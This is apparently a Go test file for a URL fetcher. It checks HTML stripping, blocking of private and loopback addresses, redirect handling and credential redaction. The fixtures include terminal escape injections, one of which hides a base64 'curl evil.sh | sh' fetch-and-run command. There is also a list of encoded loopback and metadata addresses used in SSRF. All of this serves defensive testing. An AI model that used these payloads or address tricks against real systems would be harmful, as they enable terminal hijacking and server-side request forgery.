package fetch

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/cairnmem/cairn/core/text"
)

func TestStripHTML(t *testing.T) {
	for _, tc := range []struct{ in, text, title string }{
		{"plain text", "plain text", ""},
		{"<p>a</p><p>b</p>", "a\n\nb", ""},
		{"<ul><li>one</li><li>two</li></ul>", "one\ntwo", ""},
		{"a<br>b<br/>c", "a\nb\nc", ""},
		{"x <b>bold</b>y", "x boldy", ""},
		{"<title>T &amp; U</title><title>second</title>body", "body", "T & U"},
		{"<SCRIPT type='a>b'>if (a < b) {}</SCRIPT>after", "after", ""},
		{"<style>p{}</style><noscript>ns</noscript><template><p>t</p></template>ok", "ok", ""},
		{"<script>never closed", "", ""},
		{"a <!-- c <p> --> b", "a b", ""},
		{"<!-- unterminated", "", ""},
		{"1 < 2 and 3 > 2", "1 < 2 and 3 > 2", ""},
		{"&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>", ""},
		{"<a href=\"x>y\">link</a>", "link", ""},
		{"<div\n>multi\n\n   line   text</div>", "multi line text", ""},
		{"<p>caf&eacute; &#233; &#x41;</p>", "café é A", ""},
		{"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc", ""},
		{"<scriptx>kept</scriptx>", "kept", ""},
		{"<", "<", ""},
		{"</", "</", ""},
		{"<p", "", ""},
	} {
		text, title := StripHTML(tc.in)
		if text != tc.text || title != tc.title {
			t.Errorf("StripHTML(%q) = %q, %q; want %q, %q", tc.in, text, title, tc.text, tc.title)
		}
	}
}

func FuzzStripHTML(f *testing.F) {
	for _, s := range []string{"<html><head><title>x</title></head><body><p>a &amp; b</p></body></html>",
		"<script>", "<!--", "<a b='", "&#x110000;", "<title>", "</title", "<p/>x", "\xff<p>\xfe",
		"<p>&#x1b;]52;c;ZWNobyBwd25lZA==&#x7;</p>", "<title>&#27;]0;x&#7;</title>", "&#x9b;2J&#155;", "\x1b[2J<b>x</b>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		body, title := StripHTML(in)
		if utf8.ValidString(in) && (!utf8.ValidString(body) || !utf8.ValidString(title)) {
			t.Fatalf("valid input gave invalid UTF-8: %q → %q, %q", in, body, title)
		}
		if body != strings.TrimSpace(body) || strings.Contains(body, "\n\n\n") || strings.Contains(body, "  ") {
			t.Fatalf("whitespace not collapsed: %q → %q", in, body)
		}
		// Markup-free input without entities is only whitespace-collapsed.
		if !strings.ContainsAny(in, "<&") && utf8.ValidString(in) && body != text.CollapseSpace(text.Display(in)) {
			t.Fatalf("plain body changed: %q → %q", in, body)
		}
		// Stripping is idempotent on text that has no markup left.
		if !strings.ContainsAny(body, "<&") {
			if again, _ := StripHTML(body); again != text.CollapseSpace(body) && utf8.ValidString(body) {
				t.Fatalf("not stable: %q → %q → %q", in, body, again)
			}
		}
		// Nothing a terminal would obey survives, decoded or not.
		if body != text.Display(body) || title != text.CleanLine(title) || text.CheckIdentifier("title", title) != nil {
			t.Fatalf("control characters left: %q → %q, %q", in, body, title)
		}
	})
}

func TestBlockedReason(t *testing.T) {
	for addr, blocked := range map[string]bool{
		"127.0.0.1": true, "127.8.9.1": true, "::1": true, "10.0.0.1": true, "172.16.5.5": true,
		"192.168.1.1": true, "169.254.169.254": true, "fe80::1": true, "0.0.0.0": true, "::": true,
		"224.0.0.1": true, "ff02::1": true, "100.64.0.1": true, "100.127.255.255": true, "fc00::1": true,
		"::ffff:127.0.0.1": true, "::ffff:10.0.0.1": true, "64:ff9b::7f00:1": true, "2002:7f00:1::": true,
		"255.255.255.255": true, "198.18.0.1": true,
		"::127.0.0.1": true, "::7f00:1": true, "::10.0.0.1": true, "::8.8.8.8": true, "::ffff:0:127.0.0.1": true,
		"2001:0:4136:e378:8000:63bf:3fff:fdd2": true, "2001:10::1": true,
		"93.184.216.34": false, "8.8.8.8": false, "100.128.0.1": false, "2606:4700::1111": false,
		"64:ff9b::808:808": false, "172.32.0.1": false,
	} {
		if got := blockedReason(netip.MustParseAddr(addr)) != ""; got != blocked {
			t.Errorf("blockedReason(%s) blocked = %v, want %v", addr, got, blocked)
		}
	}
}

// The dial-time guard refuses a loopback connection even when the URL
// check is bypassed (a redirect, or a name resolving to 127.0.0.1).
func TestFetchDialGuard(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "internal") }))
	defer srv.Close()
	c := fetchClient(Options{Timeout: 5 * time.Second, MaxBytes: 1024, MaxRedirects: 5})
	_, err := c.Get(srv.URL)
	if err == nil || !strings.Contains(err.Error(), "loopback") || !IsPermanent(err) {
		t.Fatalf("dial to %s: %v, want the loopback refusal", srv.URL, err)
	}
	// A redirect to a private address is refused before any connection,
	// and a redirect back to an earlier URL is reported as a loop.
	first, _ := http.NewRequest("GET", "https://example.com/a", nil)
	to, _ := http.NewRequest("GET", "http://10.0.0.1/admin", nil)
	if err := c.CheckRedirect(to, []*http.Request{first}); err == nil || !strings.Contains(err.Error(), "private") {
		t.Fatalf("redirect to 10.0.0.1: %v", err)
	}
	if err := c.CheckRedirect(first, []*http.Request{first}); err == nil || !strings.Contains(err.Error(), "redirect loop") {
		t.Fatalf("redirect loop: %v", err)
	}
	// With allow_private_fetch the same loopback server is reachable.
	c = fetchClient(Options{Timeout: 5 * time.Second, MaxBytes: 1024, AllowPrivate: true})
	res, err := c.Get(srv.URL)
	if err != nil {
		t.Fatalf("allowed fetch: %v", err)
	}
	res.Body.Close()
}

// FuzzValidateFetchURL: any document URL is judged without panicking, and
// an accepted one is http(s) with a host that is not a literal
// non-public address or a localhost name.
func FuzzValidateFetchURL(f *testing.F) {
	for _, s := range []string{"https://example.com/a", "http://127.0.0.1/", "http://[::1]:80/", "http://localhost./x",
		"ftp://example.com", "http://", "http://[fe80::1%25en0]/", "http://[64:ff9b::7f00:1]/", "http://100.64.0.1/",
		"HTTP://EXAMPLE.COM", " https://a.b ", "http://user:pw@10.0.0.1/", "http://2130706433/", "//example.com", "\x00",
		"http://[::127.0.0.1]/", "https://x.example/?access_token=abc", "https://u:p@x.example/", "http://0x7f.1/"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		u, err := ValidateURL(raw, false)
		if err != nil {
			return
		}
		if u.Scheme != "http" && u.Scheme != "https" || u.Hostname() == "" {
			t.Fatalf("accepted %q: scheme %q host %q", raw, u.Scheme, u.Hostname())
		}
		h := strings.TrimSuffix(strings.ToLower(u.Hostname()), ".")
		if h == "localhost" || strings.HasSuffix(h, ".localhost") {
			t.Fatalf("accepted a localhost name: %q", raw)
		}
		if ip, err := netip.ParseAddr(u.Hostname()); err == nil && blockedReason(ip) != "" {
			t.Fatalf("accepted a non-public address: %q (%s)", raw, blockedReason(ip))
		}
		if u.User != nil || len(text.URLSecrets(strings.TrimSpace(raw))) != 0 {
			t.Fatalf("accepted a URL with a credential: %q", raw)
		}
	})
}

// Issue 29: entities decode to real ESC and BEL when the HTML is stripped;
// the page's text and its title (which becomes a tag) must not carry them.
func TestStripHTMLRemovesDecodedEscapes(t *testing.T) {
	page := `<html><head><title>Docs&#x1b;]0;pwned&#x7; &#x9b;2Jhome</title></head><body>
<p>Run &#x1b;]52;c;Y3VybCBldmlsLnNoIHwgc2g=&#x7;the installer.</p>
<p>&#27;[2J&#27;[31mred&#27;[0m and &#x1b;]8;;https://evil.example/&#x1b;\docs&#x1b;]8;;&#x1b;\ link</p>
<p>raw` + "\x1b]0;title\x07" + `bytes and &#0;nul &#x7f;del</p></body></html>`
	body, title := StripHTML(page)
	want := "Run the installer.\n\nred and docs link\n\nrawbytes and \uFFFDnul del"
	if body != want {
		t.Errorf("body:\n got  %q\n want %q", body, want)
	}
	if title != "Docs ›2Jhome" { // &#x9b; is U+203A in HTML (windows-1252), not C1 CSI
		t.Errorf("title = %q", title)
	}
	if err := text.CheckIdentifier("tags", "document:"+title); err != nil {
		t.Errorf("the title cannot be a tag: %v", err)
	}
}

// The fetcher cleans every content type, not only HTML, and reports the
// final URL without its credentials.
func TestFetchCleansContentAndURL(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/plain":
			w.Header().Set("Content-Type", "text/plain")
			fmt.Fprint(w, "log line \x1b]52;c;eA==\x07 with \x1b[2J escapes\x00 and \x9b2J C1")
		case "/page":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<title>T&#x1b;]0;x&#x7;</title><p>a&#x1b;[31mb</p>")
		case "/redirect":
			http.Redirect(w, r, "/plain?X-Amz-Signature=0123abcd&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE", http.StatusFound)
		case "/missing":
			http.Redirect(w, r, "/gone?token=abc", http.StatusFound)
		case "/gone":
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	opts := Options{Timeout: 5 * time.Second, MaxBytes: 1 << 16, MaxRedirects: 3, AllowPrivate: true}
	res, err := URL(t.Context(), srv.URL+"/plain", opts)
	if err != nil {
		t.Fatal(err)
	}
	if want := "log line  with  escapes and \uFFFD2J C1"; res.Content != want {
		t.Errorf("text/plain content = %q, want %q", res.Content, want)
	}
	res, err = URL(t.Context(), srv.URL+"/page", opts)
	if err != nil || res.Content != "ab" || res.Title != "T" {
		t.Errorf("html: %+v %v", res, err)
	}
	res, err = URL(t.Context(), srv.URL+"/redirect", opts)
	if err != nil || strings.Contains(res.FinalURL, "0123abcd") || strings.Contains(res.FinalURL, "AKIA") || !strings.Contains(res.FinalURL, "[REDACTED:url_secret]") {
		t.Errorf("final URL keeps the signature: %+v %v", res, err)
	}
	if _, err = URL(t.Context(), srv.URL+"/missing", opts); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("404 after a redirect: %v", err)
	}
}

// A URL with a credential is refused before anything is stored; a
// numeric or IPv4-compatible loopback host is refused like 127.0.0.1.
func TestValidateURLRefusesCredentialsAndHiddenLoopback(t *testing.T) {
	for raw, says := range map[string]string{
		"https://admin:hunter2@wiki.example.com/page":                                   "user name or password",
		"https://ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789@github.com/o/r":               "user name or password",
		"https://git@example.com/x":                                                     "user name or password",
		"https://api.example.com/doc?access_token=ghp_AbCdEfGhIjKlMnOpQrStUvWxYz012345": "query parameter access_token",
		"https://x.example.com/a?token=abc123":                                          "query parameter token",
		"https://x.example.com/a?key=AIzaSyA-abcdefghijklmnopqrstuvwxyz012345":          "query parameter key",
		"https://x.blob.core.windows.net/c/b?sv=2022-11-02&sig=AbCdEf%2B123%3D":         "query parameter sig",
		"https://x.example.com/cb#access_token=abc":                                     "fragment parameter access_token",
		"http://[::127.0.0.1]/":                                                         "IPv4-compatible",
		"http://[::ffff:0:127.0.0.1]/":                                                  "IPv4-translated",
		"http://[0:0:0:0:0:0:127.0.0.1]:3850/api":                                       "IPv4-compatible",
		"http://[::ffff:127.0.0.1]/":                                                    "loopback",
		"http://2130706433/":                                                            "numeric host",
		"http://0x7f.1/":                                                                "numeric host",
		"http://0177.0.0.1/":                                                            "numeric host",
		"http://127.1/":                                                                 "numeric host",
	} {
		_, err := ValidateURL(raw, false)
		if err == nil || !strings.Contains(err.Error(), says) || !IsPermanent(err) {
			t.Errorf("ValidateURL(%q) = %v, want a refusal saying %q", raw, err, says)
			continue
		}
		if strings.Contains(err.Error(), "hunter2") || strings.Contains(err.Error(), "ghp_") || strings.Contains(err.Error(), "AIza") {
			t.Errorf("the refusal repeats the secret: %v", err)
		}
	}
	for _, raw := range []string{"https://example.com/docs?page=2&sort_key=name", "https://drive.google.com/open?id=1aBcDeFgHiJkLmNoPqRsTuVwXyZ012345",
		"https://8.8.8.8/", "https://v1.example.com/", "https://example.com/search?code=US"} {
		if _, err := ValidateURL(raw, false); err != nil {
			t.Errorf("ValidateURL(%q) = %v, want it accepted", raw, err)
		}
	}
	// A redirect is not held to the credential rule (a download may
	// redirect to a signed URL), only to the address rules.
	c := fetchClient(Options{Timeout: time.Second, MaxRedirects: 3})
	first, _ := http.NewRequest("GET", "https://example.com/a", nil)
	signed, _ := http.NewRequest("GET", "https://bucket.example.com/f?X-Amz-Signature=abc", nil)
	if err := c.CheckRedirect(signed, []*http.Request{first}); err != nil {
		t.Errorf("redirect to a signed URL: %v", err)
	}
	hidden, _ := http.NewRequest("GET", "http://[::127.0.0.1]/", nil)
	if err := c.CheckRedirect(hidden, []*http.Request{first}); err == nil {
		t.Error("redirect to [::127.0.0.1] allowed")
	}
}
